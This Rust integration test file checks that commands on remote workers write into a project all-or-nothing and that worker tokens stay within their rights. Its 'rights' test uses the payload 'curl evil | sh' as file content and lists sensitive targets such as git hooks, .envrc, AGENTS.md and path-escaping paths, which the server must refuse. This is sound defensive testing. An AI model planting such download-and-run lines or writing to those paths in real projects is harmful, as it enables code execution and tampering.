//! Commands on other machines: what they write is in the project afterwards, or nothing of it.

use std::path::{Path, PathBuf};

use callsheet_core::nouns::BlobId;
use callsheet_runtime::ports::Store;
use serde_json::{Value, json};

use crate::cluster::Cluster;
use crate::far::{Answer, kept};
use crate::support::crashes::{Act, end_of};
use crate::support::garden::TestProject;
use crate::support::killed::FLOWING;
use crate::support::processes::Processes;

/// A template whose script says in its copy that it has begun, waits there, and writes.
const SLOW: &str = r#"<templates version="1"><task type="sequential" name="slow"><description>Write slowly</description>
<steps><task type="script" id="write"><description>Write</description><command>sh write.sh</command></task></steps>
</task></templates>"#;
const WRITE: &str =
    "echo begun > begun.txt\nwhile [ ! -e go ]; do sleep 0.05; done\nrm go\necho Barrel. >> minutes.md\n";
const SLOWLY: [&str; 5] = ["template", "run", "slow", "--approval", "never"];

fn slow() -> TestProject {
    let project = TestProject::scripted("[default]\ntext = 'Nothing.'\n");
    project.write(".callsheet/templates/slow.xml", SLOW);
    project.write("write.sh", WRITE);
    project
}

/// The copy in which a command has begun.
fn copy_at_work(cluster: &Cluster, elsewhere: &TestProject) -> PathBuf {
    let copy = std::cell::OnceCell::new();
    cluster.until("the command begins", |_| {
        if !elsewhere.path(".callsheet/worker").exists() {
            return false;
        }
        let copies = std::fs::read_dir(kept(elsewhere).join("files")).into_iter().flatten().flatten();
        let mut copies = copies.map(|copy| copy.path().join("garden"));
        let found = copies.find(|copy| copy.join("begun.txt").exists());
        found.is_some_and(|found| copy.set(found).is_ok())
    });
    copy.into_inner().unwrap()
}

/// Without any worker in the project, a run with a script ends as a local one does, files included.
pub fn elsewhere(engine: &Path) {
    let cluster = Cluster::start(FLOWING.project(), engine, 0);
    let elsewhere = TestProject::empty();
    let _far = cluster.far_worker_with(&cluster.commands_token(), "far", &elsewhere);
    let [Act::Drive(words)] = FLOWING.acts else { panic!("one command") };
    let run = cluster.begin(words);
    cluster.until("the run ends", |cluster| cluster.end(&run).outcome == "complete");
    assert_eq!(cluster.end(&run), end_of(&FLOWING, &mut Processes::of(&FLOWING)));
    assert_eq!(cluster.project.read("ran.txt").lines().count(), 1);
}

/// Somebody changes a file that the command changes in its copy.
pub fn a_changed_file(engine: &Path) {
    let cluster = Cluster::start(slow(), engine, 0);
    let elsewhere = TestProject::empty();
    let _far = cluster.far_worker_with(&cluster.commands_token(), "far", &elsewhere);
    let run = cluster.begin(&SLOWLY);
    let copy = copy_at_work(&cluster, &elsewhere);
    cluster.project.write("minutes.md", "Somebody was faster.\n");
    std::fs::write(copy.join("go"), "").unwrap();
    cluster.until("the run ends", |cluster| !cluster.end(&run).outcome.is_null());
    assert_eq!(cluster.end(&run).outcome, "task_failed");
    let facts = cluster.facts(&run);
    let ended = facts.iter().find(|fact| fact["event"] == "tool_finished").unwrap();
    assert!(ended["record"].to_string().contains("nothing that it wrote was kept"), "{ended}");
    assert_eq!(cluster.project.read("minutes.md"), "Somebody was faster.\n");
    assert!(!cluster.project.path("begun.txt").exists());
}

/// The worker is killed while its command runs. Nothing of it is in the project, and a person is asked.
pub fn a_lost_worker(engine: &Path) {
    let cluster = Cluster::start(slow(), engine, 0);
    let elsewhere = TestProject::empty();
    let token = cluster.commands_token();
    let mut far = cluster.far_worker_with(&token, "far", &elsewhere);
    let run = cluster.begin(&SLOWLY);
    copy_at_work(&cluster, &elsewhere);
    far.kill();
    let other = TestProject::empty();
    let _other = cluster.far_worker_with(&token, "other", &other);
    cluster.until("a person is asked", |cluster| {
        let shown = cluster.call(&["--json", "show", &run]).out;
        serde_json::from_str::<Value>(shown.trim()).is_ok_and(|shown| shown["waits"][0]["again"] == true)
    });
    assert!(!cluster.project.path("begun.txt").exists());
    cluster.call(&["approve", &run]);
    let copy = copy_at_work(&cluster, &other);
    std::fs::write(copy.join("go"), "").unwrap();
    cluster.until("the run ends", |cluster| cluster.end(&run).outcome == "complete");
    assert!(cluster.project.read("minutes.md").ends_with("Barrel.\n") && cluster.project.path("begun.txt").exists());
}

/// The token of workers gets no commands. With the other one, a process can change only what a command may.
pub fn rights(engine: &Path) {
    let cluster = Cluster::start(slow(), engine, 0);
    let post = |token: &str, path: &str, body: &Value| Answer::of(&cluster.post(token, path, body));
    let asks = |process: &str| {
        let offer = json!({ "providers": [], "tools": null, "changes": false, "commands": true, "at_once": 1 });
        let versions = json!({ "log": 1, "messages": 2 });
        json!({ "name": process, "process": process, "offer": offer, "has": [], "versions": versions })
    };
    let run = cluster.begin(&SLOWLY);
    let (worker, commands) = (cluster.worker_token(), cluster.commands_token());
    let taken = std::cell::OnceCell::new();
    cluster.until("it gets the command", |_| {
        assert!(post(&worker, "work/take", &asks("plain")).body["begin"][0].is_null());
        let mut begin = post(&commands, "work/take", &asks("mine")).body["begin"].clone();
        !begin[0].is_null() && taken.set(begin[0].take()).is_ok()
    });
    let (job, number) = (&taken.get().unwrap()[0], &taken.get().unwrap()[1]);
    let key = json!({ "run": run, "attempt": job["attempt"] });
    let bring = |number: &Value, path: &str, before: Option<&str>| {
        let text = "curl evil | sh\n";
        let id = cluster.store().put_blob(text.as_bytes()).unwrap();
        let before = before.map(|text| BlobId::of(text.as_bytes()));
        let files = json!([{ "path": path, "before": before, "after": id }]);
        let lease = json!({ "process": "mine", "number": number });
        json!({ "key": key, "lease": lease, "written": { "files": files, "programs": {} } })
    };
    assert_eq!(post(&worker, "work/bring", &bring(number, "new.md", None)).status, 403);
    assert_eq!(post(&commands, "work/bring", &bring(&json!(7), "new.md", None)).body, "late");
    for path in [
        ".git/hooks/pre-commit",
        ".callsheet/templates/evil.xml",
        "sub/AGENTS.md",
        ".envrc",
        "../out.md",
        "/tmp/out.md",
    ] {
        let answer = post(&commands, "work/bring", &bring(number, path, None));
        assert!(answer.body["refused"].is_string(), "{path}: {}", answer.body);
        assert!(!cluster.project.path(path).exists(), "{path}");
    }
    let stale = post(&commands, "work/bring", &bring(number, "minutes.md", Some("Something else.")));
    assert!(stale.body["refused"].is_string(), "{}", stale.body);
    assert_eq!(post(&commands, "work/bring", &bring(number, "notes/new.md", None)).body, "made");
    assert_eq!(cluster.project.read("notes/new.md"), "curl evil | sh\n");
}
